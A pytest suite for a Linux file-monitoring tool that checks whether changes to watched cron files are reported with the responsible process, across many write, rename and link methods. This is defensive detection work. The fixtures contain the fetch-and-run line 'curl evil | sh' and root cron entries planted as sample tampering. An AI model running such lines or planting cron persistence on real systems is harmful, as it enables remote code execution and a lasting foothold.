# SPDX-License-Identifier: Apache-2.0
"""Every way to change a watched file, by tiny programs on real file systems."""

import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from firedamp.events.model import ProcessKey
from firedamp.sources import fanotify
from firedamp.sources.files import VARIANTS

from .file_scene import Scene, directory_on

pytestmark = [
    pytest.mark.live,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root"),
    pytest.mark.usefixtures("fanotify_host"),
]

PROGRAMS = Path(__file__).parent / "programs"


@pytest.fixture(params=["/var/tmp", "/dev/shm"], ids=["disk", "tmpfs"])
def directory(request) -> Iterator[Path]:
    """
    A directory of our own, on a disk and in memory.
    """
    with directory_on(request.param) as path:
        yield path


@pytest.fixture
def scene(directory) -> Iterator[Scene]:
    """
    A small host of our own.
    """
    scene = Scene(directory)
    yield scene
    scene.close()


WRITES = {
    "append": ("open(file, 'a').write('new\\n')", ("new",)),
    "rewrite": ("open(file, 'w').write('new\\n')", ("new",)),
    "pwrite": ("os.pwrite(os.open(file, os.O_RDWR), b'new\\n', 0)", ("new", "* * * root true")),
    "O_TRUNC": ("os.close(os.open(file, os.O_WRONLY | os.O_TRUNC))", ()),
    "truncate": ("os.truncate(file, 0)", ()),
    "ftruncate": ("os.ftruncate(os.open(file, os.O_WRONLY), 3)", ("* *",)),
    "fallocate": ("os.posix_fallocate(os.open(file, os.O_RDWR), 0, 100)", ()),
    "copy_file_range": (
        (
            "a = os.open(other + '/payload', 0); b = os.open(file, os.O_RDWR)\n"
            "os.copy_file_range(a, b, 15)"
        ),
        ("curl evil | sh", "true"),
    ),
    "sendfile": (
        (
            "a = os.open(other + '/payload', 0); b = os.open(file, os.O_RDWR)\n"
            "os.sendfile(b, a, 0, 15)"
        ),
        ("curl evil | sh", "true"),
    ),
    "splice": (
        (
            "r, w = os.pipe(); os.write(w, b'new\\n'); b = os.open(file, os.O_RDWR)\n"
            "os.splice(r, b, 4)"
        ),
        ("new", "* * * root true"),
    ),
    "mmap store, unmapped": (
        (
            "fd = os.open(file, os.O_RDWR); m = mmap.mmap(fd, 4); os.close(fd)\n"
            "m[0:4] = b'new\\n'\nm.close()"
        ),
        ("new", "* * * root true"),
    ),
    "through a descriptor in /proc": (
        "fd = os.open(file, os.O_RDONLY)\nopen(f'/proc/self/fd/{fd}', 'a').write('new\\n')",
        ("new",),
    ),
    "through /proc/PID/root": (
        "open(f'/proc/{os.getpid()}/root{file}', 'a').write('new\\n')",
        ("new",),
    ),
    "through a symbolic link": (
        "os.symlink(file, other + '/s'); open(other + '/s', 'a').write('new\\n')",
        ("new",),
    ),
    "bind mount": (
        (
            "private_mounts(); check(libc.mount(place.encode() + b'/..', other.encode(), None, "
            "0x1000, None))\nopen(other + '/crontab', 'a').write('new\\n')"
        ),
        ("new",),
    ),
    "bind mount of the file alone": (
        (
            "private_mounts(); a, b = file.encode(), (other + '/payload').encode()\n"
            "check(libc.mount(a, b, None, 0x1000, None))\n"
            "open(other + '/payload', 'a').write('new\\n')"
        ),
        ("new",),
    ),
    "mount namespace": ("private_mounts(); open(file, 'a').write('new\\n')", ("new",)),
    "chroot": ("os.chroot(root); open('/etc/crontab', 'a').write('new\\n')", ("new",)),
}


@pytest.mark.parametrize("way", WRITES)
def test_writing_is_told_with_its_process(scene, way):
    """
    However the bytes get into a watched file, one write of that file is told, and by whom.
    """
    code, added = WRITES[way]
    who = scene.does(code)

    [event] = scene.told()

    assert (event.operation, event.path, event.place) == ("write", str(scene.file), "cron")
    assert (event.process, event.uid) == (who, 0)
    assert (event.inode, event.added_lines) == (scene.file.stat().st_ino, added)


def test_writing_by_io_uring_is_told_with_its_process(scene, tmp_path):
    """
    No system call writes here, so that no hook of one could have seen it.
    """
    program = tmp_path / "io_uring_write"
    built = subprocess.run(["cc", "-o", program, PROGRAMS / "io_uring_write.c"], check=False)
    if built.returncode:
        pytest.skip("needs a C compiler and the kernel's headers for programs")

    who = scene.run(str(program), str(scene.file))
    [event] = scene.told()

    assert (event.operation, event.path) == ("write", str(scene.file))
    assert (event.process, event.added_lines) == (who, ("by io_uring",))


def test_writing_through_a_hard_link_elsewhere_tells_the_watched_path(scene):
    """
    The other name lies where nobody watches; the inode is what counts.
    """
    who = scene.does("open(other + '/known-too', 'a').write('new\\n')")

    [event] = scene.told()

    assert (event.operation, event.path) == ("write", str(scene.place / "known"))
    assert (event.process, event.added_lines) == (who, ("new",))


NAMES = {
    "create": ("open(place + '/x', 'w').write('evil\\n')", [("create", "etc/cron.d/x")]),
    "mkdir": ("os.mkdir(place + '/x')", [("create", "etc/cron.d/x")]),
    "mkfifo": ("os.mkfifo(place + '/x')", [("create", "etc/cron.d/x")]),
    "rename in": ("os.rename(other + '/payload', place + '/x')", [("rename", "etc/cron.d/x")]),
    "rename within": (
        "os.rename(place + '/known', place + '/x')",
        [("rename", "etc/cron.d/x")],
    ),
    "rename over": ("os.rename(other + '/payload', file)", [("rename", "etc/crontab")]),
    "rename out": ("os.rename(place + '/known', other + '/x')", [("delete", "etc/cron.d/known")]),
    "link": ("os.link(other + '/payload', place + '/x')", [("link", "etc/cron.d/x")]),
    "linkat of O_TMPFILE": (
        (
            "fd = os.open(root, os.O_TMPFILE | os.O_RDWR); os.write(fd, b'evil\\n')\n"
            "give_name(fd, place + '/x')"
        ),
        [("create", "etc/cron.d/x")],
    ),
    "linkat of O_TMPFILE made in the place": (
        (
            "fd = os.open(place, os.O_TMPFILE | os.O_RDWR); os.write(fd, b'evil\\n')\n"
            "time.sleep(0.2)\n"
            "give_name(fd, place + '/x')"
        ),
        [("create", "etc/cron.d/x")],
    ),
    "a watched file gets a name elsewhere": (
        "os.link(file, other + '/x')",
        [("link", "etc/crontab")],
    ),
    "symlink": ("os.symlink('/payload', place + '/x')", [("link", "etc/cron.d/x")]),
    "symlink swapped in": (
        "os.symlink('/payload', other + '/x'); os.rename(other + '/x', file)",
        [("rename", "etc/crontab")],
    ),
    "exchange": (
        "check(libc.renameat2(-100, (other + '/payload').encode(), -100, file.encode(), 2))",
        [("rename", "etc/crontab")],
    ),
    "unlink": ("os.unlink(file)", [("delete", "etc/crontab")]),
    "open without writing": ("os.close(os.open(file, os.O_RDWR))", [("open", "etc/crontab")]),
    "chmod": ("os.chmod(file, 0o600)", [("attributes", "etc/crontab")]),
    "chown": ("os.chown(file, 1, 1)", [("attributes", "etc/crontab")]),
    "utime": ("os.utime(file, (1, 1))", [("attributes", "etc/crontab")]),
    "setxattr": ("os.setxattr(file, 'trusted.x', b'1')", [("attributes", "etc/crontab")]),
    "chmod of a directory": ("os.chmod(place, 0o700)", [("attributes", "etc/cron.d")]),
    "reading": ("open(file).read(); os.listdir(place); os.stat(file)", []),
    "writing elsewhere": (
        "open(other + '/payload', 'a').write('x'); open(root + '/etc/x', 'w').write('x')",
        [],
    ),
}


@pytest.mark.parametrize("way", NAMES)
def test_a_change_is_told_once_and_with_its_process(scene, way):
    """
    One act, one event of the right kind, about the watched path; and none for what is not watched.
    """
    code, expected = NAMES[way]
    who = scene.does(code)

    told = scene.told()

    assert [(event.operation, scene.below(event.path)) for event in told] == expected
    assert {event.process for event in told} <= {who}
    assert all(event.place == "cron" for event in told)


@pytest.mark.parametrize("variant", VARIANTS, ids=lambda v: v.hook)
def test_each_variant_sees_the_common_ways(directory, variant):
    """
    Older kernels say less: where a rename came from, or surely who it was.
    """
    scene = Scene(directory, (variant,))
    who = scene.does(
        "open(file, 'a').write('new\\n'); os.chmod(file, 0o600)\n"
        "open(place + '/x', 'w').write('evil\\n')\n"
        "os.rename(place + '/x', place + '/y')\n"
        "os.unlink(place + '/y')\n"
        "os.rename(other + '/payload', file)"
    )
    told = scene.told()
    scene.close()

    expected = [
        ("write", "etc/crontab"),
        ("create", "etc/cron.d/x"),
        ("rename", "etc/cron.d/y"),
        ("delete", "etc/cron.d/y"),
        ("rename", "etc/crontab"),
        ("attributes", "etc/crontab"),
    ]
    if not variant.names & fanotify.RENAME:  # the name it had and the one it got come apart
        expected.append(("delete", "etc/cron.d/x"))
    assert sorted((e.operation, scene.below(e.path)) for e in told) == sorted(expected)
    assert {event.process for event in told} == {who}
    assert scene.watch.hook == variant.hook


def test_a_process_that_is_gone_is_told_by_its_pid(scene):
    """
    Most writers end before anyone looks: the PID alone is still a lead to who it was.
    """
    who = scene.does("open(file, 'a').write('new\\n')")
    scene.ends()

    [event] = scene.told()

    assert event.process == ProcessKey(who.pid, 0)


def test_the_user_is_the_real_one(scene):
    """
    The user who did it is told, not the owner of the file.
    """
    scene.file.chmod(0o666)
    scene.told()
    scene.root.chmod(0o755)
    scene.does("open(file, 'a').write('new\\n')", user=1001)

    [event] = scene.told()

    assert (event.operation, event.uid) == ("write", 1001)


def test_where_a_file_was_before_a_rename_is_told(scene):
    """
    What sed -i and crontab(1) do is recognisable: a new file takes the place of the old.
    """
    subprocess.run(["sed", "-i", "s/true/evil/", scene.file], check=True)

    [event] = scene.told()

    assert event.operation == "rename"
    assert Path(event.old_path).parent == scene.file.parent
    assert event.added_lines == ("* * * * * root evil",)
